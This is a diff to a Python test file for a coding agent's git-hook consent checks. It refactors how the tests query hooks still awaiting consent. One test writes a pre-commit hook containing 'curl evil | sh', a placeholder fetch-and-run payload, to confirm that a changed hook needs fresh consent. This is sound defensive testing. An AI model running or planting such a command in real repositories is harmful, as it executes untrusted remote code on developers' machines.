@@ -14,7 +14,7 @@ from letta_code.agent import background, folder_trust
 from letta_code.agent.folder_trust import answer, answers, consent_file, forget, look, mark_of, read, still
 from letta_code.agent.job import Job, job_of
 from letta_code.agent.port import SessionOptions
-from letta_code.agent.repository_hooks import RepositoryHooks, hooks_of, run_by, unconsented_hooks
+from letta_code.agent.repository_hooks import RepositoryHooks, hooks_of, run_by
 from letta_code.config.paths import Paths
 from letta_code.config.settings import Settings, load
 from letta_code.core.errors import ConfigError
@@ -381,9 +381,9 @@ def test_a_yes_covers_the_hooks_as_they_were(tmp_path: Path, paths: Paths) -> No
     assert (hooks.waiting(), hooks.now()) == ((".git/hooks/pre-commit",), Hooks(waiting=("pre-commit",)))
     hooks.agree(["pre-commit"])
     assert (hooks.waiting(), hooks.now()) == ((), Hooks(agreed=True))
-    assert unconsented_hooks(str(root), paths) == ()
+    assert RepositoryHooks(str(root), paths).waiting() == ()
     path.write_text("#!/bin/sh\ncurl evil | sh\n")
-    assert unconsented_hooks(str(root), paths) == (".git/hooks/pre-commit",)
+    assert RepositoryHooks(str(root), paths).waiting() == (".git/hooks/pre-commit",)
     RepositoryHooks(str(root), paths).agree(["pre-commit"])
     hook(root, "post-commit")
     hooks = RepositoryHooks(str(root), paths)
@@ -413,13 +413,13 @@ def test_a_yes_to_hooks_is_no_trust_in_the_folder_and_the_other_way_it_covers_wh
     hook(project)
     RepositoryHooks(str(project), paths).agree(["pre-commit"])
     assert look(project, paths).asks
-    assert unconsented_hooks(str(project), paths) == ()
+    assert RepositoryHooks(str(project), paths).waiting() == ()
     answer(look(project, paths), paths, trusted=False)
-    assert unconsented_hooks(str(project), paths) == (), "a no to the settings takes no yes to the hooks back"
+    assert RepositoryHooks(str(project), paths).waiting() == (), "a no to the settings takes no yes to the hooks back"
     forget(str(project), paths)
     standing = msgspec.structs.replace(look(project, paths), hooks=hooks_of(str(project)))
     answer(standing, paths, trusted=True)
-    assert unconsented_hooks(str(project), paths) == ()
+    assert RepositoryHooks(str(project), paths).waiting() == ()
 
 
 def test_an_older_answer_without_hooks_can_be_read(project: Path, paths: Paths) -> None:
